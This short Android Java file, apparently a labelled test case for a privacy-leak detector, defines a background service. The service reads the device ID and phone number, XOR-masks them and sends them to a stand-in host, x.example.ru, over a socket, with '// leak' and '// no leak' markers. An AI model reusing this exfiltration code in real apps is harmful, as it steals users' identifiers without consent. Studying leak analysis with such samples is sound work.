package thieves;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import android.util.Base64;

import org.json.*;

import java.io.*;
import java.net.*;
import java.util.concurrent.*;

/** A packet of bytes: length, kind, masked text. */
public class Xor extends Service {
    private final BlockingQueue<byte[]> out = new LinkedBlockingQueue<byte[]>(), quiet = new ArrayBlockingQueue<byte[]>(4);

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public int onStartCommand(Intent i, int f, int id) {
        TelephonyManager t = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            JSONObject o = new JSONObject();
            o.put("d", new JSONArray().put(t.getDeviceId()).put(t.getLine1Number()));
            out.offer(packet(1, o.toString()));
            quiet.offer(packet(0, new JSONObject().put("v", 1).toString()));
        } catch (JSONException e) {
        }
        new Thread(new Writer(), "w").start();
        return START_STICKY;
    }

    static byte[] packet(int kind, String text) {
        byte[] body = text.getBytes();
        byte[] all = new byte[body.length + 5];
        all[0] = (byte) kind;
        for (int n = 0; n < 4; n++) all[n + 1] = (byte) (body.length >>> (8 * n));
        for (int n = 0; n < body.length; n++) all[n + 5] = (byte) (body[n] ^ (0x5a + n));
        return all;
    }

    class Writer implements Runnable {
        @Override
        public void run() {
            try {
                Socket s = new Socket(InetAddress.getByName("x.example.ru"), 6666);
                OutputStream o = s.getOutputStream();
                o.write(out.take()); // leak
                o.write(quiet.take()); // no leak
                o.write(Base64.encode("x".getBytes(), 0)); // no leak
            } catch (Exception e) {
                stopSelf();
            }
        }
    }
}
